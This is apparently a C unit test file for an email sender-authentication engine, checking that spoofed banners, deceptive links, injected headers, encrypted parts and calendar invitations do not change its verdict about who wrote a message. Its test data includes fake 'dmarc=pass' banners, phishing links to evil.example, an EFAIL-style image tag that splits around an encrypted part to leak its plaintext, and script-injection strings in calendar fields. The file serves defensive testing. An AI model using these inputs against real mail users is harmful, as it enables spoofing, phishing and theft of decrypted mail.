/* SPDX-License-Identifier: MIT
 *
 * Attacks of the content on the verdict (attacks H162-H176, K207): what a body claims, hides or
 * encloses changes nothing of what is said about its author. The author is proved by a signature
 * over everything, by one that leaves something open, or not at all. */
#include "attack_stage.h"

#include "mail/mime.h"

/* The same verdict in every field, whatever the bodies. */
static void check_same(const struct stage *stage, const struct stage_mail *one,
                       const struct stage_mail *other) {
    struct stage_verdict a = stage_judge_mail(stage, one), b = stage_judge_mail(stage, other);
    assert_true(verdict_equal(a.verdict, b.verdict));
    stage_verdict_clear(&a);
    stage_verdict_clear(&b);
}

/* "Verified by your organisation", fake marks and fake results in the body are text. */
static void k207_a_banner_in_the_message_is_text(void **state) {
    const struct stage *stage = *state;
    static const char *const banners[] = {
        "[VERIFIED] This message was checked by your organisation.\r\n",
        "Authentication-Results: mx.ours.example; dmarc=pass header.from=bank.example\r\n",
        "\xe2\x9c\x94 Domain confirmed: Sent by bank.example.\r\n",
        "<div class=verdict data-level=brand>Sent by bank.example.</div>\r\n",
        "[EXTERNAL] Caution: this message came from outside.\r\n",
    };
    for (guint i = 0; i < G_N_ELEMENTS(banners); i++) {
        check_same(stage, &(struct stage_mail){.body = banners[i]},
                   &(struct stage_mail){.body = TEXT});
        struct shape shape = {.domain = "bank.example"};
        check_same(stage, &(struct stage_mail){.body = banners[i], .shape = &shape},
                   &(struct stage_mail){.body = TEXT, .shape = &shape});
    }
}

/* Said quietly, whoever wrote it; silent where a proved author counts who follows the links to his
 * own pages, and where text and target are of one organization. */
static void k206_a_link_that_reads_otherwise_is_said(void **state) {
    const struct stage *stage = *state;
    static const struct {
        const char *html;
        bool proved, unproved;
    } cases[] = {
        {"<a href=https://evil.example/>www.shop.example</a>", true, true},
        {"<a href=https://click.esp.example/>www.bank.example/offer</a>", false, true},
        {"<a href=https://click.bank.example/>www.bank.example</a>", false, false},
        {"<a href=https://evil.example/>Your account</a>", false, false},
        {"<a href=https://click.esp.example/>bank.example</a>"
         "<a href=https://evil.example/>shop.example</a>",
         true, true},
    };
    for (guint i = 0; i < G_N_ELEMENTS(cases); i++)
        for (int proved = 0; proved < 2; proved++) {
            struct shape shape = {.domain = "bank.example",
                                  .headers = "From:To:Subject:Content-Type"};
            struct stage_mail mail = {.header = BANK "Content-Type: text/html\r\n",
                                      .body = cases[i].html,
                                      .shape = proved ? &shape : NULL};
            struct stage_verdict judged = stage_judge_mail(stage, &mail);
            const struct reason *reason =
                reason_find(&judged.verdict->reasons, REASON_LINK_ELSEWHERE);
            assert_int_equal(reason != NULL, proved ? cases[i].proved : cases[i].unproved);
            assert_true(!reason || reason->severity == SEVERITY_INFO);
            stage_verdict_clear(&judged);
        }
}

/* One more field that says how the body is read, not the signer's: a limit, never a full proof. */
static void h162_a_second_content_type_is_not_the_signers(void **state) {
    const struct stage *stage = *state;
    static const char *const added[] = {
        "Content-Type: text/html\r\n",
        "Content-Type: multipart/mixed; boundary=x\r\n",
        "Content-Transfer-Encoding: base64\r\n",
    };
    struct shape shape = {.domain = "bank.example",
                          .headers = "From:To:Subject:Content-Type:Content-Transfer-Encoding"};
    for (guint i = 0; i < G_N_ELEMENTS(added); i++) {
        struct stage_verdict judged = stage_judge_mail(
            stage, &(struct stage_mail){.header = BANK "Content-Type: text/plain\r\n"
                                                       "Content-Transfer-Encoding: "
                                                       "7bit\r\n",
                                        .shape = &shape,
                                        .inserted = added[i]});
        assert_author(judged, "likely", "signature-intact");
        assert_true(stage_says(&judged, "fields-not-covered"));
        stage_verdict_clear(&judged);
    }
}

/* What cannot be decrypted here says nothing of its author, wherever in the message it stands, and
 * is left closed: no part of it is text. */
static void h169_h170_encrypted_parts_stay_closed_and_prove_nothing(void **state) {
    const struct stage *stage = *state;
    static const char *const bodies[] = {
        "--b\r\n\r\nHello.\r\n--b\r\nContent-Type: application/pkcs7-mime; "
        "smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CA"
        "\r\n--b--\r\n",
        "--b\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
        "boundary=c\r\n\r\n--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        "--c\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ"
        "\r\n-----END PGP MESSAGE-----\r\n--c--\r\n--b--\r\n",
        "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--b\r\n"
        "Content-Type: application/pkcs7-mime\r\n\r\nMIAG\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        "\">\r\n--b--\r\n",
    };
    for (guint i = 0; i < G_N_ELEMENTS(bodies); i++) {
        struct stage_verdict judged = stage_judge_mail(
            stage, &(struct stage_mail){.header = BANK "Content-Type: multipart/mixed; "
                                                       "boundary=b\r\n",
                                        .body = bodies[i]});
        assert_author(judged, "contradicted", "fail-policy-reject");
        assert_int_equal(judged.verdict->strength, STRENGTH_NONE);
        assert_int_equal(judged.verdict->via, 0);
        stage_verdict_clear(&judged);
    }
}

static void h173_winmail_is_an_attachment_like_others(void **state) {
    const struct stage *stage = *state;
    static const char body[] = "--b\r\n\r\nHello.\r\n--b\r\nContent-Type: application/ms-tnef; "
                               "name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                               "eJ8+IgEAAQEBAAAA\r\n--b--\r\n";
    g_autofree char *text =
        g_strconcat(BANK "Content-Type: multipart/mixed; boundary=b\r\n\r\n", body, NULL);
    g_autoptr(GBytes) octets = g_bytes_new(text, strlen(text));
    OWNED(message) message = message_new(octets, 0);
    OWNED(mime) mime = mime_parse(message);
    assert_int_equal(mime->root->children->len, 2);
    const struct mime_part *part = mime->root->children->pdata[1];
    assert_int_equal(part->kind, MIME_LEAF);
    check_same(stage,
               &(struct stage_mail){.header = BANK "Content-Type: multipart/mixed; boundary=b\r\n",
                                    .body = body},
               &(struct stage_mail){.body = TEXT});
}

/* Of an invitation only the organizer's address is taken, and only as an address. */
static void h174_an_invitation_is_no_document(void **state) {
    const struct stage *stage = *state;
    static const char body[] =
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:<script>alert(1)</script>\r\n"
        "DESCRIPTION:<img src=x onerror=alert(1)>\r\nORGANIZER;CN=\"<b>Boss</b>\":mailto:boss@"
        "other.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    struct shape shape = {.domain = "bank.example"};
    struct stage_verdict judged = stage_judge_mail(
        stage,
        &(struct stage_mail){.header = BANK "Content-Type: text/calendar; method=REQUEST\r\n",
                             .body = body,
                             .shape = &shape});
    assert_string_equal(judged.evidence->author.organizer, "boss@other.example");
    assert_true(stage_says(&judged, "organizer-elsewhere"));
    stage_verdict_clear(&judged);
}

static int set_up(void **state) {
    struct stage *stage = g_new(struct stage, 1);
    *stage = stage_new();
    *state = stage;
    return 0;
}

static int tear_down(void **state) {
    stage_clear(*state);
    g_free(*state);
    return 0;
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(k207_a_banner_in_the_message_is_text),
        cmocka_unit_test(k206_a_link_that_reads_otherwise_is_said),
        cmocka_unit_test(h162_a_second_content_type_is_not_the_signers),
        cmocka_unit_test(h169_h170_encrypted_parts_stay_closed_and_prove_nothing),
        cmocka_unit_test(h173_winmail_is_an_attachment_like_others),
        cmocka_unit_test(h174_an_invitation_is_no_document),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
